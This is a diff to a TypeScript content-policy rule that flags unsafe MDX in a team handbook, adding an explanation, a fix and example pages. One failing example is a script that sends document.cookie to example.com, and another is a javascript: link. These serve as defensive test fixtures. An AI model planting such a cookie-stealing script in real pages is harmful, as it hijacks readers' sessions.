@@ -1,6 +1,8 @@
 import { join } from 'node:path';
 import { findPolicyViolations } from '../content-policy/policy.ts';
 import type { Rule } from '../engine/rule.ts';
+import { sopBodyWith } from './examples/base-handbook.ts';
+import { FILE_PROBLEMS } from './next-steps.ts';
 
 /**
  * The content policy on every page body: the same function the build's own pipeline
@@ -10,6 +12,17 @@ export const mdxUnsafe: Rule = {
 	id: 'mdx/unsafe',
 	severity: 'error',
 	description: 'A page body runs code, imports or exports, embeds a script or an event handler, links to a javascript:/data: address, or shows an image from outside the handbook.',
+	why: 'Content arrives by pull request from many hands; a page that could run script would act as every reader of the handbook, and the handbook is where the team finds its bank procedures.',
+	fix: 'Remove it and write the content in Markdown; a comment goes in `{/* ... */}`.',
+	next: FILE_PROBLEMS,
+	examples: {
+		fails: [
+			{ title: 'a script', files: sopBodyWith('<script>fetch("https://example.com/?c=" + document.cookie)</script>') },
+			{ title: 'code in braces', files: sopBodyWith('Today is {new Date().toDateString()}.') },
+			{ title: 'a `javascript:` link', files: sopBodyWith('[Open the portal](javascript:alert(1))') },
+		],
+		passes: [{ title: 'a comment and an ordinary link', files: sopBodyWith('{/* Checked with the pod lead. */}\n[Open the portal](https://portal.example.com/)') }],
+	},
 	reads: 'body',
 	*check({ handbook, scope }) {
 		for (const file of handbook.files) {
